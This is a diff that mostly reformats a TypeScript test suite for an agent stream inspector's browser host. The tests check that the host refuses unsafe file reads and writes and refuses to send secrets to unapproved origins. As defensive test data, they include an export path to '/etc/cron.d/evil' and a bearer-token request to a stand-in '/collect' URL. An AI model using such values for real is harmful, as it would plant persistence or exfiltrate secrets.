@@ -26,10 +26,18 @@ let app: WebApp;
 beforeAll(async () => {
   dir = await mkdtemp(join(tmpdir(), 'inspector-web-'));
   await mkdir(join(dir, 'assets'));
-  await writeFile(join(dir, 'index.html'), '<!doctype html><title>Agent Stream Inspector</title><script type="module" src="./assets/app.js"></script>');
+  await writeFile(
+    join(dir, 'index.html'),
+    '<!doctype html><title>Agent Stream Inspector</title><script type="module" src="./assets/app.js"></script>',
+  );
   await writeFile(join(dir, 'assets', 'app.js'), 'console.log("app")');
   agent = await startDemoAgent({ pace: 'fast' });
-  app = await startWebApp({ rendererDir: dir, demoAgent: { url: agent.url }, version: '1.2.3', files: [fixturePath('example_1.json.sse')] });
+  app = await startWebApp({
+    rendererDir: dir,
+    demoAgent: { url: agent.url },
+    version: '1.2.3',
+    files: [fixturePath('example_1.json.sse')],
+  });
 });
 
 afterAll(async () => {
@@ -49,7 +57,9 @@ function get(path: string, headers: Record<string, string> = {}): Promise<Reply>
     const req = request({ host: '127.0.0.1', port: app.host.port, path, headers }, (res) => {
       const chunks: Buffer[] = [];
       res.on('data', (c: Buffer) => chunks.push(c));
-      res.on('end', () => resolve({ status: res.statusCode ?? 0, headers: res.headers, body: Buffer.concat(chunks).toString() }));
+      res.on('end', () =>
+        resolve({ status: res.statusCode ?? 0, headers: res.headers, body: Buffer.concat(chunks).toString() }),
+      );
     });
     req.on('error', reject);
     req.end();
@@ -73,7 +83,9 @@ function upgrade(url: string, headers: Record<string, string> = {}): Promise<'op
 }
 
 function client(): SocketClient<typeof INSPECTOR_CONTRACT> {
-  return createSocketClient(INSPECTOR_CONTRACT, INSPECTOR_NAMES, new WebSocket(socketUrlFor(app.url)), { onProtocolError: (m) => console.error(m) });
+  return createSocketClient(INSPECTOR_CONTRACT, INSPECTOR_NAMES, new WebSocket(socketUrlFor(app.url)), {
+    onProtocolError: (m) => console.error(m),
+  });
 }
 
 describe('browser host: what it refuses', () => {
@@ -125,11 +137,17 @@ describe('browser host: the contract end to end over a real WebSocket', () => {
     const c = client();
     await c.ready;
     const service: InspectorService = c.service;
-    expect(await service.getAppInfo()).toMatchObject({ host: 'browser', version: '1.2.3', capabilities: { upload: true, fileDialogs: false } });
+    expect(await service.getAppInfo()).toMatchObject({
+      host: 'browser',
+      version: '1.2.3',
+      capabilities: { upload: true, fileDialogs: false },
+    });
     const demo = await service.getDemoAgent();
     expect(demo?.runUrl).toBe(`${agent.url}/agent/run`);
     expect(demo?.scenarios.map((s) => s.id)).toContain('frontend-tools');
-    await expect(service.connect({ url: 42 } as never)).rejects.toThrow(/Invalid argument for connect: arg\.url: expected a string, got number 42/);
+    await expect(service.connect({ url: 42 } as never)).rejects.toThrow(
+      /Invalid argument for connect: arg\.url: expected a string, got number 42/,
+    );
     await expect(service.getSession({ sessionId: 'missing' })).rejects.toThrow(/Unknown session 'missing'/);
     await expect(service.showOpenDialog()).rejects.toThrow(/no native file dialog/);
     c.close();
@@ -158,7 +176,10 @@ describe('browser host: the contract end to end over a real WebSocket', () => {
     const detail = await service.getSession({ sessionId: summary.id });
     const results = detail.pendingTools!.tools.map((t) => ({ tool_use_id: t.toolUseId, content: 'yes' }));
     expect(await service.sendToolResults({ sessionId: summary.id, results })).toEqual({ leg: 1 });
-    const done = await waitFor(() => lists.at(-1)?.find((s) => s.id === summary.id && s.legs === 2 && s.state === 'complete'), 'the continuation');
+    const done = await waitFor(
+      () => lists.at(-1)?.find((s) => s.id === summary.id && s.legs === 2 && s.state === 'complete'),
+      'the continuation',
+    );
     expect(done.awaitingTools).toBe(false);
 
     // After unsubscribing, no more batches arrive for new sessions.
@@ -188,8 +209,14 @@ describe('browser host with the session service in a worker thread', () => {
       const lists: SessionSummary[][] = [];
       c.service.onSessionsChanged((l) => lists.push(l));
       const demo = (await c.service.getDemoAgent())!;
-      const { id } = await c.service.connect({ ...demo.defaultRequest, body: { kind: 'json', text: JSON.stringify({ user_prompt: 'x', scenario: 'subagents', pace: 'fast' }) } });
-      const done = await waitFor(() => lists.at(-1)?.find((s) => s.id === id && s.state === 'complete'), 'the worker session');
+      const { id } = await c.service.connect({
+        ...demo.defaultRequest,
+        body: { kind: 'json', text: JSON.stringify({ user_prompt: 'x', scenario: 'subagents', pace: 'fast' }) },
+      });
+      const done = await waitFor(
+        () => lists.at(-1)?.find((s) => s.id === id && s.state === 'complete'),
+        'the worker session',
+      );
       expect(done.envelopes).toBeGreaterThan(10);
       expect((await c.service.getAppInfo()).host).toBe('browser');
       expect(await c.service.listRecentFiles()).toEqual([]);
@@ -214,7 +241,13 @@ describe('quitting the browser host', () => {
     const threaded = await startWebApp({ rendererDir: dir, demoAgent: false, sessionsInWorker: true, userData });
     try {
       const { id } = await threaded.service.connect({ url: `${server.url}/run`, method: 'GET', headers: [] });
-      await waitFor(async () => (await threaded.service.listSessions()).find((s) => s.id === id && s.state === 'streaming' && s.envelopes > 10), 'the session streaming');
+      await waitFor(
+        async () =>
+          (await threaded.service.listSessions()).find(
+            (s) => s.id === id && s.state === 'streaming' && s.envelopes > 10,
+          ),
+        'the session streaming',
+      );
     } finally {
       await threaded.close();
       await server.close();
@@ -236,13 +269,22 @@ describe('deeply nested JSON in the browser host', () => {
       const c = createSocketClient(INSPECTOR_CONTRACT, INSPECTOR_NAMES, new WebSocket(socketUrlFor(threaded.url)));
       const lists: SessionSummary[][] = [];
       c.service.onSessionsChanged((l) => lists.push(l));
-      const { id } = await c.service.openUpload({ name: 'deep.sse', base64: Buffer.from(deeplyNestedCapture(5000)).toString('base64') });
-      const done = await waitFor(() => lists.at(-1)?.find((s) => s.id === id && s.state !== 'loading'), 'the deep session');
+      const { id } = await c.service.openUpload({
+        name: 'deep.sse',
+        base64: Buffer.from(deeplyNestedCapture(5000)).toString('base64'),
+      });
+      const done = await waitFor(
+        () => lists.at(-1)?.find((s) => s.id === id && s.state !== 'loading'),
+        'the deep session',
+      );
       expect(done.envelopes).toBe(3);
       const envelope = await c.service.getEnvelope({ sessionId: id, seq: 1 });
       expect(Object.keys(envelope.extras)).toEqual(['tree']);
       expect((await c.service.getBlock({ sessionId: id, block: 0 })).content).toBe('deep end');
-      const next = await c.service.openUpload({ name: 'json_stream.json.sse', base64: (await readFile(fixturePath('json_stream.json.sse'))).toString('base64') });
+      const next = await c.service.openUpload({
+        name: 'json_stream.json.sse',
+        base64: (await readFile(fixturePath('json_stream.json.sse'))).toString('base64'),
+      });
       expect(next.id).not.toBe(id);
       c.close();
     } finally {
@@ -255,13 +297,25 @@ describe('recent files in the browser host', () => {
   it('lists a file opened by its path, never the temp copy of an upload', async () => {
     const store = join(dir, 'user-data', 'recent-files.json');
     const uploadDir = join(dir, 'uploads');
-    const withRecent = await startWebApp({ rendererDir: dir, demoAgent: { url: agent.url }, recentFilesPath: store, sessionDeps: { uploadDir }, files: [fixturePath('json_stream.json.sse')] });
+    const withRecent = await startWebApp({
+      rendererDir: dir,
+      demoAgent: { url: agent.url },
+      recentFilesPath: store,
+      sessionDeps: { uploadDir },
+      files: [fixturePath('json_stream.json.sse')],
+    });
     try {
       const c = createSocketClient(INSPECTOR_CONTRACT, INSPECTOR_NAMES, new WebSocket(socketUrlFor(withRecent.url)));
-      const uploaded = await c.service.openUpload({ name: 'json_stream.json.sse', base64: (await readFile(fixturePath('json_stream.json.sse'))).toString('base64') });
+      const uploaded = await c.service.openUpload({
+        name: 'json_stream.json.sse',
+        base64: (await readFile(fixturePath('json_stream.json.sse'))).toString('base64'),
+      });
       expect(uploaded.source).toMatchObject({ kind: 'file', path: expect.stringContaining(uploadDir) as unknown });
       await c.service.openFile({ path: fixturePath('json_stream.json.sse') });
-      const written = await waitFor(async () => (await readFile(store, 'utf8').catch(() => '')) || undefined, 'the recent-files store');
+      const written = await waitFor(
+        async () => (await readFile(store, 'utf8').catch(() => '')) || undefined,
+        'the recent-files store',
+      );
       expect(JSON.parse(written)).toEqual([fixturePath('json_stream.json.sse')]);
       expect(await c.service.listRecentFiles()).toEqual([fixturePath('json_stream.json.sse')]);
       c.close();
@@ -284,7 +338,9 @@ describe('browser host: the page reads and writes only what the user chose', () 
         () => 'opened',
         (error: unknown) => (error as Error).message,
       );
-      expect(refusal).toMatch(/^Refused to open ".*": the inspector opens only files you chose\. Pick it with the Open button/);
+      expect(refusal).toMatch(
+        /^Refused to open ".*": the inspector opens only files you chose\. Pick it with the Open button/,
+      );
       expect(refusal).not.toContain('canary-shadow');
       expect(refusal).not.toContain('root:');
     }
@@ -306,12 +362,19 @@ describe('browser host: the page reads and writes only what the user chose', () 
     await expect(c.service.saveRecording({ sessionId: session!.id, path: target('saved.recording') })).rejects.toThrow(
       /^Refused to write ".*saved\.recording": a recording goes only where you choose in the inspector's own save dialog or download/,
     );
-    await expect(c.service.exportSession({ sessionId: session!.id, kind: 'raw-sse', path: '/etc/cron.d/evil' })).rejects.toThrow(/^Refused to write "\/etc\/cron\.d\/evil": an export goes only/);
+    await expect(
+      c.service.exportSession({ sessionId: session!.id, kind: 'raw-sse', path: '/etc/cron.d/evil' }),
+    ).rejects.toThrow(/^Refused to write "\/etc\/cron\.d\/evil": an export goes only/);
     const demo = (await c.service.getDemoAgent())!;
-    await expect(c.service.connect({ ...demo.defaultRequest, recordTo: target('live.recording') })).rejects.toThrow(/^Refused to write ".*live\.recording"/);
-    await expect(c.service.startProxy({ port: 0, target: demo.baseUrl, recordDir: target('proxied') })).rejects.toThrow(/^Refused to write ".*proxied": a proxy recording goes only/);
+    await expect(c.service.connect({ ...demo.defaultRequest, recordTo: target('live.recording') })).rejects.toThrow(
+      /^Refused to write ".*live\.recording"/,
+    );
+    await expect(c.service.startProxy({ port: 0, target: demo.baseUrl, recordDir: target('proxied') })).rejects.toThrow(
+      /^Refused to write ".*proxied": a proxy recording goes only/,
+    );
     expect(await c.service.getProxy()).toBeNull();
-    for (const name of ['saved.recording', 'live.recording', 'proxied']) await expect(readFile(target(name))).rejects.toThrow(/ENOENT/);
+    for (const name of ['saved.recording', 'live.recording', 'proxied'])
+      await expect(readFile(target(name))).rejects.toThrow(/ENOENT/);
     c.close();
   });
 });
@@ -322,14 +385,22 @@ describe('browser host: a page holding the token cannot send secrets where the u
     const c = client();
     await c.service.saveEnvironment({ name: 'Stolen', variables: [{ name: 'token', secret: true, value: SECRET }] });
     // TEST-NET-1 (RFC 5737): nothing is sent; the refusal comes first.
-    const request = { method: 'GET', url: 'http://192.0.2.1:9/collect', headers: [['Authorization', 'Bearer {{token}}']] as [string, string][] };
+    const request = {
+      method: 'GET',
+      url: 'http://192.0.2.1:9/collect',
+      headers: [['Authorization', 'Bearer {{token}}']] as [string, string][],
+    };
     const before = (await c.service.listSessions()).length;
     const refused = await c.service.connect(request).then(
       () => 'connected',
       (error: unknown) => (error as Error).message,
     );
-    expect(refused).toMatch(/^Refused to send \{\{token\}\} to http:\/\/192\.0\.2\.1:9: that origin was not approved for secrets\. The browser host sends secrets only to this machine and to the origins named when it starts: npm start -- --allow-secrets-to ORIGIN\.$/);
-    await expect(c.service.resolveRequest({ request, mode: 'with-secrets' })).rejects.toThrow(/^Refused to send \{\{token\}\}/);
+    expect(refused).toMatch(
+      /^Refused to send \{\{token\}\} to http:\/\/192\.0\.2\.1:9: that origin was not approved for secrets\. The browser host sends secrets only to this machine and to the origins named when it starts: npm start -- --allow-secrets-to ORIGIN\.$/,
+    );
+    await expect(c.service.resolveRequest({ request, mode: 'with-secrets' })).rejects.toThrow(
+      /^Refused to send \{\{token\}\}/,
+    );
     expect((await c.service.listSessions()).length).toBe(before);
     c.close();
   });
@@ -339,7 +410,10 @@ describe('withoutFilesIn', () => {
   it('neither adds nor lists files inside the upload folder', async () => {
     const stored = ['/tmp/up/1a-x.sse', '/home/me/run.json.sse', '/tmp/upper/y.sse'];
     const added: string[] = [];
-    const recent = withoutFilesIn({ list: () => Promise.resolve(stored), add: (path) => Promise.resolve(void added.push(path)) }, '/tmp/up');
+    const recent = withoutFilesIn(
+      { list: () => Promise.resolve(stored), add: (path) => Promise.resolve(void added.push(path)) },
+      '/tmp/up',
+    );
     expect(await recent.list()).toEqual(['/home/me/run.json.sse', '/tmp/upper/y.sse']);
     await recent.add('/tmp/up/2b-z.sse');
     await recent.add('/tmp/upper/z.sse');
